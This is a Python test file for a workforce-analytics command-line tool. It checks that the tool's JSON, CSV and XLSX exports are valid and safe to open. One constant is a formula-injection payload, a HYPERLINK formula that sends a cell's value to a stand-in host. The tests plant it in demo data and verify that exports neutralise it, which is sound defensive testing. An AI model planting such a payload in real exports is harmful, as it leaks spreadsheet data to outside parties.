"""Every command in every format, as a user runs it (subprocesses on a demo store): valid
JSON without NaN, CSV that parses and never starts a cell with a formula, XLSX with an
"About" sheet and no formula, no traceback, the data each answer comes from."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import polars as pl
import pytest

from parity.cli.render import fmt_count, fmt_num, fmt_p, fmt_pct, print_table
from parity.core.output import DataAsOf, Result, data_as_of, frame_to_csv, to_json, to_xlsx
from parity.core.output.atomic import write_atomic
from parity.core.output.xlsx_out import sheet_names
from parity.core.store import open_store

PARITY = [sys.executable, "-m", "parity.cli.main"]
EVIL = '=HYPERLINK("http://x/?"&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

COMMANDS: dict[str, list[str]] = {
    "funnel": ["funnel", "--by", "regional_group", "--strata", "grade", "--decompose",
               "--trend"],
    "funnel_entity": ["funnel", "--by", "entity"],
    "timelines": ["timelines", "--by", "grade"],
    "careers": ["careers", "--flow", "promotion", "--by", "regional_group,gender"],
    "careers_survival": ["careers", "--flow", "promotion", "--survival"],
    "careers_roster": ["careers", "--flow", "roster", "--by", "entity"],
    "composition": ["composition", "--by", "entity"],
    "composition_trend": ["composition", "--by", "gender", "--trend", "--yearly"],
    "ranges": ["ranges", "--what-if", "20"],
    "gender": ["gender", "--by", "entity"],
    "project": ["project", "--runs", "20", "--years", "3"],
    "status": ["status"],
    "releases": ["releases"],
}


def run(*args: str, columns: int = 160) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "COLUMNS": str(columns)}
    return subprocess.run([*PARITY, *args], capture_output=True, text=True, env=env,
                          timeout=600)


def _no_nan(token: str) -> Any:
    raise ValueError(f"JSON holds {token}")


def strict_json(text: str) -> Any:
    return json.loads(text, parse_constant=_no_nan)


@pytest.fixture(scope="session")
def demo_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``parity demo`` at a small scale, with one entity renamed to a formula."""
    folder = tmp_path_factory.mktemp("demo")
    res = run("demo", "--dir", str(folder), "--scale", "0.05")
    assert res.returncode == 0, res.stderr
    db = folder / "parity.duckdb"
    con = duckdb.connect(str(db))
    for table, column in (("staff", "entity"), ("openings", "entity"),
                          ("applications", "opening_entity")):
        con.execute(f"UPDATE {table} SET {column} = ? WHERE {column} = 'DESA'", [EVIL])
    con.close()
    return db


def _cells_safe(rows: list[list[str]]) -> None:
    for row in rows[1:]:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only numbers may start with a sign


@pytest.mark.parametrize("name", list(COMMANDS))
def test_every_format(name: str, demo_db: Path, tmp_path: Path) -> None:
    args = [*COMMANDS[name], "--db", str(demo_db)]
    version = _version(demo_db)

    table = run(*args)
    assert table.returncode == 0 and "Traceback" not in table.stderr, table.stderr
    assert f"Data as of: version {version}" in table.stdout
    assert "-0.00" not in table.stdout and "<bool>" not in table.stdout

    res = run(*args, "--format", "json")
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr
    doc = strict_json(res.stdout)
    assert list(doc) == ["parameters", "data_as_of", "sections", "notes"]
    assert doc["data_as_of"]["data_version"] == version
    assert isinstance(doc["parameters"], dict) and doc["sections"]
    if name == "funnel":
        out = tmp_path / "answer.json"
        assert run(*args, "--format", "json", "-o", str(out)).returncode == 0
        assert strict_json(out.read_text(encoding="utf-8")) == doc

    out = tmp_path / "answer.csv"
    res = run(*args, "--format", "csv", "--output", str(out))
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    keys = [list(records[0]) for records in doc["sections"].values() if records]
    assert rows[0] in keys or not keys, "CSV columns differ from the JSON records"
    _cells_safe(rows)
    if EVIL in json.dumps(doc) and name.startswith(("composition", "funnel_entity")):
        assert "'" + EVIL in [c for r in rows for c in r]

    if name in ("funnel", "ranges"):
        folder = tmp_path / "sections"
        assert run(*args, "--format", "csv", "-o", str(folder)).returncode == 0
        assert sorted(p.stem for p in folder.glob("*.csv")) == sorted(doc["sections"])

    out = tmp_path / "answer.xlsx"
    res = run(*args, "--format", "xlsx", "-o", str(out))
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr
    book = openpyxl.load_workbook(out)
    assert book.sheetnames[0] == "About" and len(book.sheetnames) == 1 + len(doc["sections"])
    about = [c for row in book["About"].iter_rows(values_only=True) for c in row if c]
    assert "Data version" in about and version in about
    for sheet in book.worksheets[1:]:
        assert sheet.freeze_panes == "A3"
        header = [c.value for c in sheet[2]]
        assert header in keys or sheet.max_row == 2
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), f"formula in {sheet.title}"


def _version(db: Path) -> str:
    with open_store(db, read_only=True) as store:
        return data_as_of(store).version


def test_timelines_xlsx_with_infinite_values_writes_a_file(demo_db: Path, tmp_path: Path) -> None:
    """Once a traceback ('NAN/INF not supported') and a cut-off file."""
    out = tmp_path / "t.xlsx"
    res = run("timelines", "--by", "grade", "--format", "xlsx", "-o", str(out),
              "--db", str(demo_db))
    assert res.returncode == 0, res.stderr
    assert openpyxl.load_workbook(out).sheetnames == ["About", "timelines", "stages"]


def test_xlsx_without_output_and_bad_folder_are_one_sentence(demo_db: Path,
                                                             tmp_path: Path) -> None:
    res = run("gender", "--format", "xlsx", "--db", str(demo_db))
    assert res.returncode == 2 and "Add --output FILE.xlsx" in res.stderr
    assert "Traceback" not in res.stderr
    res = run("gender", "--format", "json", "-o", str(tmp_path / "no" / "such" / "x.json"),
              "--db", str(demo_db))
    assert res.returncode != 0 and "Could not write" in res.stderr
    assert "Traceback" not in res.stderr
    assert not (tmp_path / "no").exists()


def test_release_csv_neutralises_formulas(demo_db: Path, tmp_path: Path) -> None:
    res = run("release", "--audience", "public", "--out", str(tmp_path / "r"),
              "--db", str(demo_db), "--as", "tester")
    assert res.returncode == 0, res.stderr
    text = (tmp_path / "r" / "workforce_by_entity_gender.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    entities = {r[0] for r in rows[1:]}
    assert "'" + EVIL in entities and EVIL not in entities
    for path in (tmp_path / "r").glob("*.csv"):
        _cells_safe(list(csv.reader(path.open(encoding="utf-8"))))
    listing = strict_json(run("releases", "--format", "json", "--db", str(demo_db)).stdout)
    assert [r["release_id"] for r in listing["sections"]["releases"]] == ["r0001"]
    log = strict_json(run("audit", "--verify", "--format", "json", "--db", str(demo_db)).stdout)
    assert log["notes"][0].startswith("Audit log intact")
    assert "release" in {r["action"] for r in log["sections"]["audit_log"]}


# ---------------------------------------------------------------------------- the writers
def _result() -> Result:
    frame = pl.DataFrame({
        "entity": [EVIL, "+1", "-x", "@a", "\tb", "\rc", "plain", None],
        "ratio": [float("inf"), float("nan"), -1.5, 0.0, 1.0, 2.0, -0.0, None],
        "pass_rate": [0.5, 0.25, None, 0.0, 1.0, 0.125, 0.3, 0.4],
        "count": [1, 2, 3, 4, 5, 6, 7, None],
        "tags": [["a"], ["b"], [], None, ["c"], ["d"], ["e"], ["f"]],
    })
    as_of = DataAsOf("abc123", None, None)
    return Result("Test", {"by": ["entity"], "ratio": float("inf")},
                  {"first": frame, "a" * 40: frame.head(2), "a" * 41: frame.head(1)},
                  ["a note"], as_of)


def test_json_has_no_nan_or_infinity() -> None:
    doc = strict_json(to_json(_result()))
    assert doc["parameters"] == {"by": ["entity"], "ratio": None}
    assert [r["ratio"] for r in doc["sections"]["first"]] == [None, None, -1.5, 0.0, 1.0, 2.0,
                                                              -0.0, None]
    assert doc["sections"]["first"][0]["entity"] == EVIL  # JSON is data, not a sheet
    assert doc["notes"] == ["a note"] and doc["data_as_of"]["data_version"] == "abc123"


def test_csv_neutralises_every_formula_start_and_keeps_numbers() -> None:
    rows = list(csv.reader(io.StringIO(frame_to_csv(_result().sections["first"]))))
    assert rows[0] == ["entity", "ratio", "pass_rate", "count", "tags"]
    assert [r[0] for r in rows[1:]] == ["'" + EVIL, "'+1", "'-x", "'@a", "'\tb", "'\rc",
                                        "plain", ""]
    assert [r[1] for r in rows[1:]] == ["", "", "-1.5", "0.0", "1.0", "2.0", "-0.0", ""]
    assert rows[1][4] == '["a"]'


def test_xlsx_cells_are_text_numbers_or_empty() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_result())))
    assert book.sheetnames == ["About", "first", "a" * 31, "a" * 29 + "~2"]
    sheet = book["first"]
    assert [c.value for c in sheet[1]] == ["Entity", "Ratio", "Pass rate", "Count", "Tags"]
    assert [c.value for c in sheet[2]] == ["entity", "ratio", "pass_rate", "count", "tags"]
    assert sheet["A3"].value == EVIL and sheet["A3"].data_type == "s"
    assert sheet["B3"].value is None and sheet["B4"].value is None and sheet["B5"].value == -1.5
    assert sheet["C3"].number_format == "0.0%" and sheet["D3"].number_format == "#,##0"
    assert sheet.freeze_panes == "A3"


def test_sheet_names_are_distinct_when_cut() -> None:
    names = sheet_names(["x" * 40, "x" * 40 + "y", "about", "a/b:c", "X" * 31])
    assert len({n.lower() for n in names.values()}) == 5
    assert all(len(n) <= 31 for n in names.values())
    assert names["about"] != "about" and names["a/b:c"] == "a_b_c"


def test_atomic_write_leaves_no_partial_file(tmp_path: Path) -> None:
    target = tmp_path / "kept.csv"
    write_atomic(target, "old\n")
    (tmp_path / "blocker").mkdir()
    with pytest.raises(OSError):
        write_atomic(tmp_path / "blocker", b"new")  # a folder cannot be replaced by a file
    assert target.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["blocker", "kept.csv"]


# ---------------------------------------------------------------------------- terminal habits
def test_one_number_formatter() -> None:
    assert fmt_num(-0.001) == "0.00" and fmt_num(-0.004, 2) == "0.00" and fmt_num(-1.5) == "-1.50"
    assert fmt_num(float("inf")) == "∞" and fmt_num(None) == "–" and fmt_num(float("nan")) == "–"
    assert fmt_pct(-0.00001) == "0.00%" and fmt_pct(-0.0001) == "-0.01%"
    assert fmt_pct(0.1234) == "12.3%" and fmt_pct(-0.0) == "0.0%"
    assert fmt_p(0.0) == "<0.001" and fmt_p(0.0004) == "<0.001" and fmt_p(0.0456) == "0.046"
    assert fmt_p(1.0) == "1.000" and fmt_p(None) == "–"
    assert fmt_count(12.6) == "13" and fmt_count(-0.4) == "0" and fmt_count(1234) == "1,234"


def test_tables_right_align_numbers_and_round_shortfalls() -> None:
    from rich.console import Console

    console = Console(width=120, record=True)
    frame = pl.DataFrame({"group": ["A", "B"], "shortfall": [12.4, -0.3], "p_value": [0.0, 0.5],
                          "ratio": ["0.81 (0.80–0.82)", "1.00 (0.99–1.01)"],
                          "women_share": [0.5, -0.0]})
    print_table(frame, console=console)
    text = console.export_text()
    assert "-0" not in text and "<0.001" in text and "0.500" in text and "50.0%" in text
    cells = {line.split("│")[1].strip(): line.split("│")[2:-1]
             for line in text.splitlines() if line.startswith("│ ")}
    assert [c.strip() for c in cells["A"]] == ["12", "<0.001", "0.81 (0.80–0.82)", "50.0%"]
    assert [c.strip() for c in cells["B"]] == ["0", "0.500", "1.00 (0.99–1.01)", "0.0%"]
    for cell in cells["A"]:  # right-aligned: padding on the left, one space on the right
        assert cell.endswith(cell.strip() + " ")
    assert cells["A"][0].startswith("   ")


@pytest.mark.parametrize("width", [80, 160])
def test_help_shows_flags_and_whole_sentences(width: int) -> None:
    res = run("--help", columns=width)
    assert res.returncode == 0 and "<bool>" not in res.stdout
    if width == 160:
        lines = [" ".join(line.split()) for line in res.stdout.splitlines()]
        assert any("between two, or across all." in line for line in lines), res.stdout
    for command in ("funnel", "timelines", "careers", "composition", "ranges", "gender",
                    "project", "status", "releases", "release", "audit", "ingest", "demo",
                    "synth"):
        res = run(command, "--help", columns=width)
        assert res.returncode == 0, res.stderr
        assert "<bool>" not in res.stdout, command
    res = run("funnel", "--help", columns=width)
    assert "--no-decompose" in res.stdout and "--no-trend" in res.stdout
    assert "--output" in res.stdout and "-o" in res.stdout
